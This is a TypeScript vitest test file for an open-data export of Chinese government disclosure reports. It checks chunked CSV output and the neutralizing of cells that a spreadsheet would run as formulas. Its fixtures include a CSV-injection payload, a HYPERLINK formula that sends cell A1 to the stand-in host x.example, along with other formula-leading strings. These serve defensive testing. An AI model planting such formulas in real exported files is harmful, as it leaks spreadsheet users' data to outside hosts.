import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { agencyOf, buildArchive, type Agency, type Report } from '../../src/lib/archive.ts';
import { COLUMNS } from '../../src/lib/opendata/columns.ts';
import { reportRow, reportsCsvPieces } from '../../src/lib/opendata/reports.ts';
import { csvRows, neutralizeCell } from '../../src/lib/opendata/csv.ts';
import { frameCsv, frameOf } from '../../src/lib/opendata/frames.ts';

const agency = (n: number): Agency => ({
  id: `3703${String(n).padStart(2, '0')}-a${n}`, name: `第${n}局, "甲"`, shortName: `第${n}局`, aliases: [], province: '山东省', city: '淄博市',
  divisionCode: `3703${String(n).padStart(2, '0')}`, level: '县级', kind: '教育局', stub: false, file: `content/agencies/a${n}.yaml`,
});
const report = (a: Agency, year: number, value: number): Report => ({
  id: `${a.id}/${year}`, file: `content/reports/${a.id}/${year}.md`, agency: a.id, year, title: `${year}年报告，含“引号”`,
  edition: year <= 2018 ? 'pre2019' : year <= 2020 ? '2019' : '2021', source: { file: 'x.txt', removed: [] },
  metrics: { proactive_total: { value, approx: value % 7 === 0, quote: `主动公开${value}条` } }, categories: [], notes: [],
});

describe('reports.csv in pieces', () => {
  // 2,350 reports: three pieces of rows, the last one partial.
  const agencies = Array.from({ length: 47 }, (_, i) => agency(i + 1));
  const archive = buildArchive(agencies, agencies.flatMap((a, i) => Array.from({ length: 50 }, (_, y) => report(a, 1990 + y, i * 100 + y))));

  it('joins to the file one stringify of every row would write: BOM, header, one row per report in order', () => {
    const pieces = [...reportsCsvPieces(archive)];
    expect(pieces.length).toBe(1 + 3);
    const whole = `\uFEFF${stringify([COLUMNS.map((c) => c.name), ...archive.reports.map((r) => reportRow(r, agencyOf(archive, r)))], { record_delimiter: 'unix' })}`;
    expect(pieces.join('')).toBe(whole);
    const rows = parse(pieces.join('').slice(1), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r['id'])).toEqual(archive.reports.map((r) => r.id));
    expect(rows[1001]!['agency_name']).toBe(agencyOf(archive, archive.reports[1001]!).name);
  });

  it('writes a header alone for an empty archive', () => {
    expect([...reportsCsvPieces(buildArchive(agencies, []))].join('')).toBe(`\uFEFF${COLUMNS.map((c) => c.name).join(',')}\n`);
  });
});

describe('CSV cells that a spreadsheet would run', () => {
  const hostile = ['=HYPERLINK("http://x.example/"&A1,"点击查看")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '-18元'];

  it('gets a leading apostrophe in every text cell that starts like a formula, and nowhere else', () => {
    for (const text of hostile) expect(neutralizeCell(text)).toBe(`'${text}`);
    for (const text of ['平潭综合实验区2021年报告', '（一）政府信息公开', "'已有引号", ' =前有空格']) expect(neutralizeCell(text)).toBe(text);
  });

  it('keeps numbers numbers: a negative value is written as -18, not as text', () => {
    const rows = parse(csvRows([['a', 'b'], [-18, '-18'], [0.5, '=1']]), { cast: false }) as string[][];
    expect(rows[1]).toEqual(['-18', "'-18"]);
    expect(rows[2]).toEqual(['0.5', "'=1"]);
  });

  it('leaves no live formula in reports.csv or a frame for hostile titles and names', () => {
    const evil = hostile.map((t, i) => ({ ...agency(90 + i), name: t, shortName: t }));
    const archive = buildArchive(evil, evil.map((a, i) => ({ ...report(a, 2020, i), title: hostile[i]! })));
    const csv = [...reportsCsvPieces(archive)].join('').slice(1);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(hostile.length);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((r) => r['title'])).toEqual(archive.reports.map((r) => `'${r.title}`));
    const frame = parse(frameCsv(frameOf(archive, 'proactive_total', 2020, archive.reports)).slice(1), { columns: true }) as Record<string, string>[];
    expect(frame.map((r) => r['name'])).toEqual(archive.reports.map((r) => `'${agencyOf(archive, r).shortName}`));
    expect(frame.map((r) => r['value'])).toEqual(archive.reports.map((r) => String(r.metrics['proactive_total']!.value)));
  });
});
